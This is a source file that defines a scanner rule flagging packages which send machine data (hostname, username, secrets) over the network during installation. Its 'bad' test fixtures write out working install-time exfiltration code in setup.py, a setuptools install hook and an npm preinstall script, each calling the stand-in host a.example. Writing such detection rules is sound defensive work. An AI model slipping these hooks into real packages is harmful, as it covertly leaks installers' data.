import { all, any, anyArgument, call, from, whileInstalling } from "../match.ts";
import { defineRule } from "../rule.ts";
import { LOOKUPS, SENDS } from "../vocabulary/network-calls.ts";
import { SHELL_LOOKUPS, SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import {
  clipboard,
  environment,
  fileContents,
  hostIdentity,
  screenshot,
  secretVariable,
} from "../vocabulary/sources.ts";

const DATA = [hostIdentity, environment, secretVariable, fileContents, clipboard, screenshot];

export default defineRule({
  id: "install-time-data-sent",
  category: "data_exfiltration",
  severity: "critical",
  confidence: "high",
  languages: ["python", "javascript"],
  title: "data of this machine is sent while the package is installed",
  why: "It tells somebody who has installed the package, and what is there to take.",
  fix: "Remove it; no package needs this.",
  references: ["ATT&CK T1195.002", "ATT&CK T1082", "ATT&CK T1041"],
  match: call({
    of: [...SENDS, ...LOOKUPS, ...SHELL_SENDS, ...SHELL_LOOKUPS],
    where: all(whileInstalling, any(...DATA.map((data) => anyArgument(from(data))))),
  }),
  bad: [
    { "setup.py": 'import requests, socket\nrequests.get("https://a.example/?h=" + socket.gethostname())' },
    'import os, getpass, requests\nfrom setuptools.command.install import install\nclass Mine(install):\n    def run(self):\n        requests.post("https://a.example", json={"u": getpass.getuser()})',
    {
      "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node index.js"}}',
      "index.js":
        'const os = require("os");\nconst https = require("https");\nconst body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });\nconst req = https.request({ hostname: "a.example", method: "POST" });\nreq.write(body);',
    },
  ],
  good: [
    { "setup.py": "import platform\nfrom setuptools import setup\nsetup(name='x', platforms=[platform.node()])" },
    {
      "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node get.js"}}',
      "get.js": 'require("https").get("https://a.example/tool-" + process.platform, save);',
    },
  ],
});
